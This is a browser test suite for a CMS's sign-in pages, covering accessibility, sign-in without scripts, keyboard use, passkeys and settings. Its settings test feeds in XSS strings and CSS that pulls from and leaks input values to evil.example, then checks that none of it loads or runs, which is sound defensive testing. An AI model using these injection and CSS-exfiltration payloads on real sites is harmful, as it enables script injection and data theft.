import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { expect } from 'chai';
import type { Browser, BrowserContext, BrowserContextOptions, Page } from 'playwright-core';
import { CODE, OPEN_SHARE, SHARE, SHARE_PASSWORD, writeStandIns } from '../plugins/sign-in-pages/stand-in-routes.ts';
import { type InProcessService, startService } from '../support/service.ts';
import { openChromium } from './chromium.ts';

/** The accessibility checker, which runs inside of the page. */
const AXE = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');

const PAGES = [
  'login',
  'login?reason=INVALID_PROVIDER',
  'login?notice=password-changed',
  'logout',
  'reset-password',
  'reset-password?token=good',
  'accept-invite?token=good',
  'accept-invite',
  'verify-email?token=good',
  `share/${SHARE}`,
  `share/${OPEN_SHARE}`,
  'share/none',
];

describe('sign-in pages in a browser', function () {
  // On a busy machine pages take long to render.
  this.timeout(180_000);

  let service: InProcessService;
  let standIns: Awaited<ReturnType<typeof writeStandIns>>;
  let browser: Browser;
  const contexts: BrowserContext[] = [];

  before(async () => {
    standIns = await writeStandIns();
    service = await startService({ pluginsBefore: standIns.composition.plugins as URL[] });
    browser = await openChromium();
    const { request, admin } = service;
    const send = async (method: string, path: string, body: unknown) => {
      const reply = await request(method, path, { token: admin.token, body });
      expect(reply.status, JSON.stringify(reply.body)).to.equal(200);
    };
    const id = { field: 'id', type: 'integer', schema: { is_primary_key: true, has_auto_increment: true } };
    const fields = [id, { field: 'title', type: 'string' }, { field: 'extra', type: 'json' }];
    await send('POST', '/collections', { collection: 'tune', schema: {}, meta: {}, fields });
    await send('POST', '/items/tune', { title: 'So What', extra: { key: 'D dorian' } });
    standIns.state.shareToken = admin.token;
  });
  beforeEach(() => {
    standIns.state.received.splice(0);
    standIns.state.passkeyRefusal = undefined;
  });
  afterEach(async () => {
    for (const context of contexts.splice(0)) await context.close();
  });
  after(async () => {
    await browser?.close();
    await service?.stop();
    await standIns?.remove();
  });

  /** Opens a page of its own context; `problems`: what the page loaded from other hosts, and what its policy refused. */
  async function visit(path: string, options: BrowserContextOptions = {}, origin = service.url) {
    const context = await browser.newContext({ viewport: { width: 1280, height: 800 }, ...options });
    contexts.push(context);
    const page = await context.newPage();
    page.setDefaultTimeout(60_000);
    const problems: string[] = [];
    page.on('console', (message) => {
      if (/Content Security Policy|TypeError/.test(message.text())) problems.push(message.text());
    });
    page.on('pageerror', (error) => problems.push(`exception: ${error.message}`));
    page.on('request', (request) => {
      if (new URL(request.url()).origin !== origin) problems.push(`elsewhere: ${request.url()}`);
    });
    await page.goto(`${origin}/admin/${path}`);
    return { page, context, problems };
  }

  const heading = (page: Page) => page.getByRole('heading', { level: 1 }).textContent();

  async function enter(page: Page, email: string, password: string): Promise<void> {
    await page.getByLabel('E-mail address').fill(email);
    await page.locator('#password').fill(password);
    await page.getByRole('button', { name: 'Sign in', exact: true }).click();
  }

  async function violationsOf(page: Page): Promise<readonly string[]> {
    await page.evaluate(AXE);
    const run =
      'axe.run(document, { runOnly: ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa", "best-practice"] })';
    const { passes, violations } = (await page.evaluate(run)) as {
      passes: unknown[];
      violations: { id: string; impact: string; nodes: { html: string }[] }[];
    };
    expect(passes).to.have.length.above(10);
    return violations.map(({ id, impact, nodes }) => `${impact} ${id}: ${nodes.map((node) => node.html).join(' ')}`);
  }

  for (const colorScheme of ['light', 'dark'] as const)
    for (const width of [1280, 390])
      it(`has no violation of accessibility rules and no sideways scrolling, ${colorScheme} at ${width} px`, async () => {
        const { page, problems } = await visit('login', {
          colorScheme,
          viewport: { width, height: 844 },
          bypassCSP: true,
        });
        const found: string[] = [];
        const check = async (what: string) => {
          for (const one of await violationsOf(page)) found.push(`${what}: ${one}`);
          const overflow = await page.evaluate('document.documentElement.scrollWidth - innerWidth');
          if (Number(overflow) > 0) found.push(`${what}: is ${overflow} px too wide`);
        };
        for (const path of PAGES) {
          await page.goto(`${service.url}/admin/${path}`);
          await check(path);
        }
        await page.goto(`${service.url}/admin/login`);
        await page.getByText('Sign in with Corporate ldap').first().click();
        await check('form of a provider');
        await enter(page, 'ann@example.com', 'wrong');
        await page.locator('#problem').waitFor();
        await check('wrong password');
        await page.goto(`${service.url}/admin/share/${OPEN_SHARE}`);
        await page.getByRole('button', { name: 'Open' }).click();
        await page.getByText('So What').waitFor();
        await check('shared item');
        expect(found, found.join('\n')).to.deep.equal([]);
        expect(problems).to.deep.equal([]);
      });

  it('signs in without scripts: after a wrong password, with a code, and signs out', async () => {
    const { page, problems } = await visit('login?redirect=/admin?x=1', {
      javaScriptEnabled: false,
      userAgent: 'a browser that needs code',
    });
    const { email, password } = service.admin;
    expect(await page.getByRole('button', { name: 'Sign in with a passkey' }).isVisible()).to.equal(false);
    await enter(page, email, 'wrong');
    await page.getByRole('alert').waitFor();
    expect(await page.getByRole('alert').textContent()).to.match(/password is not right/);
    expect(await page.getByLabel('E-mail address').inputValue()).to.equal(email);
    expect(await page.locator('#password').inputValue()).to.equal('');
    await page.locator('#password').fill(password);
    await page.getByRole('button', { name: 'Sign in', exact: true }).click();
    await page.getByLabel('Code').fill('111111');
    await page.getByRole('button', { name: 'Continue' }).click();
    await page.getByRole('alert').waitFor();
    await page.getByLabel('Code').fill(CODE);
    await page.getByRole('button', { name: 'Continue' }).click();
    await page.getByText(`${email}`).waitFor();
    expect(page.url()).to.equal(`${service.url}/admin?x=1`);
    await page.getByRole('button', { name: 'Sign out' }).click();
    await page.getByText('You are signed out.').waitFor();
    expect(problems).to.deep.equal([]);
  });

  it('signs in by the keyboard alone, with the focus visible and in the order of the page', async () => {
    const { page } = await visit('login');
    const focused = () => page.evaluate('document.activeElement.id || document.activeElement.textContent.trim()');
    const outline = () => page.evaluate('getComputedStyle(document.activeElement).outlineStyle');
    // The browser moves the focus when it renders the page, which may be after it has loaded.
    await page.locator('#email:focus').waitFor();
    expect(await outline()).to.equal('solid');
    await page.keyboard.type(service.admin.email);
    await page.keyboard.press('Tab');
    expect([await focused(), await outline()]).to.deep.equal(['password', 'solid']);
    await page.keyboard.type('wrong');
    await page.keyboard.press('Enter');
    await page.locator('#problem:focus').waitFor();
    await page.keyboard.press('Tab');
    await page.keyboard.press('Enter');
    await page.locator('#password:focus').waitFor();
    await page.keyboard.type(service.admin.password);
    // The script of the page shows this button.
    await page.getByRole('button', { name: 'Sign in with a passkey' }).waitFor();
    for (const expected of [
      'Sign in',
      'Forgot your password?',
      'Sign in with a passkey',
      'Sign in with Corporate ldap',
    ]) {
      await page.keyboard.press('Tab');
      expect([await focused(), await outline()]).to.deep.equal([expected, 'solid']);
    }
    await page.keyboard.press('Enter');
    await page.keyboard.press('Tab');
    expect(await focused()).to.equal('corporate_ldap-identifier');
    await page.locator('#password').focus();
    await page.keyboard.press('Enter');
    await page.getByText('You are signed in').waitFor();
  });

  it('follows the links of mails without scripts, and shows a share', async () => {
    const { page, problems } = await visit('reset-password?token=good', { javaScriptEnabled: false });
    await page.getByLabel('New password', { exact: true }).fill('a new password');
    await page.getByLabel('New password again').fill('a new password');
    await page.getByRole('button').click();
    await page.getByText('Your password is changed.').waitFor();
    await page.goto(`${service.url}/admin/verify-email?token=good`);
    await page.getByRole('button').click();
    await page.getByText('Your e-mail address is confirmed.').waitFor();
    await page.goto(`${service.url}/admin/share/${SHARE}`);
    await page.getByLabel('Password').fill(SHARE_PASSWORD);
    await page.getByRole('button', { name: 'Open' }).click();
    await page.getByRole('row', { name: 'Title So What' }).waitFor();
    await page.reload();
    await page.getByRole('row', { name: 'Title So What' }).waitFor();
    expect(standIns.state.uses).to.be.above(0);
    expect(problems).to.deep.equal([]);
  });

  it('signs in by a passkey: posts the answer of the authenticator, and opens the target', async () => {
    const origin = service.url.replace('127.0.0.1', 'localhost');
    const { page, context, problems } = await visit('login?redirect=/admin/reset-password', {}, origin);
    const devtools = await context.newCDPSession(page);
    await devtools.send('WebAuthn.enable');
    const { authenticatorId } = await devtools.send('WebAuthn.addVirtualAuthenticator', {
      options: {
        protocol: 'ctap2',
        transport: 'internal',
        hasResidentKey: true,
        hasUserVerification: true,
        isUserVerified: true,
        automaticPresenceSimulation: true,
      },
    });
    const key = await createPrivateKey();
    await devtools.send('WebAuthn.addCredential', {
      authenticatorId,
      credential: {
        credentialId: Buffer.from('a credential').toString('base64'),
        isResidentCredential: true,
        rpId: 'localhost',
        privateKey: key,
        userHandle: Buffer.from('ann').toString('base64'),
        signCount: 1,
      },
    });
    standIns.state.passkeyRefusal = 'USER_SUSPENDED';
    const button = page.getByRole('button', { name: 'Sign in with a passkey' });
    await button.click();
    await page.getByText('This account is not active.').waitFor();
    standIns.state.passkeyRefusal = undefined;
    await button.click();
    await page.waitForURL(`${origin}/admin/reset-password`);
    const { body } = standIns.state.received.findLast(({ path }) => path === '/auth/login/passkey') as {
      body: { mode: string; credential: { id: string; rawId: string; type: string; response: Record<string, string> } };
    };
    const { mode, credential } = body;
    expect([mode, credential.type, credential.id]).to.deep.equal(['cookie', 'public-key', credential.rawId]);
    expect(Buffer.from(credential.id, 'base64url').toString()).to.equal('a credential');
    const client = JSON.parse(Buffer.from(credential.response.clientDataJSON as string, 'base64url').toString());
    expect(client).to.include({ type: 'webauthn.get', challenge: 'Y2hhbGxlbmdl', origin });
    expect(Object.keys(credential.response)).to.include.members(['authenticatorData', 'signature', 'userHandle']);
    expect(problems).to.deep.equal([]);
  });

  it('shows no button for passkeys in a browser that has none', async () => {
    const { page, context } = await visit('logout');
    await context.addInitScript('delete window.PublicKeyCredential');
    await page.goto(`${service.url}/admin/login`);
    await page.getByRole('button', { name: 'Sign in', exact: true }).waitFor();
    expect(await page.getByRole('button', { name: 'Sign in with a passkey' }).isVisible()).to.equal(false);
  });

  it('follows settings: name, note, color and appearance, and custom CSS that loads nothing from other hosts', async () => {
    const css = `@import url("https://evil.example/a.css");
      h1 { letter-spacing: 3px } </style><script>window.hacked = 1</script>
      body { background-image: url("https://evil.example/pixel.png") }
      input[value^="a"] { background: url("//evil.example/a") }`;
    const settings = {
      project_name: 'Northwind <i>Music</i>',
      project_color: '#ffee00',
      public_note: 'Only for **members**. <script>window.hacked = 1</script>',
      default_appearance: 'dark',
      custom_css: css,
    };
    const before = {
      project_name: 'Tenon',
      project_color: null,
      public_note: null,
      default_appearance: 'auto',
      custom_css: null,
    };
    const patch = (body: object) => service.request('PATCH', '/settings', { token: service.admin.token, body });
    expect((await patch(settings)).status).to.equal(200);
    try {
      const { page, context } = await visit('login', { colorScheme: 'light' });
      const loaded: string[] = [];
      context.on('response', (response) => loaded.push(response.url()));
      await page.reload();
      await page.getByText('Northwind <i>Music</i>').waitFor();
      expect(await page.locator('.note strong').textContent()).to.equal('members');
      expect(await page.evaluate('window.hacked')).to.equal(undefined);
      expect(await page.evaluate('getComputedStyle(document.body).backgroundColor')).to.equal('rgb(21, 23, 28)');
      expect(loaded.filter((url) => url.includes('evil'))).to.deep.equal([]);
      expect(await heading(page)).to.equal('Sign in');
    } finally {
      await patch(before);
    }
  });
});

/** A private key of a new pair, as PKCS#8 in base64. */
async function createPrivateKey(): Promise<string> {
  const { privateKey } = await crypto.subtle.generateKey({ name: 'ECDSA', namedCurve: 'P-256' }, true, [
    'sign',
    'verify',
  ]);
  return Buffer.from(await crypto.subtle.exportKey('pkcs8', privateKey)).toString('base64');
}
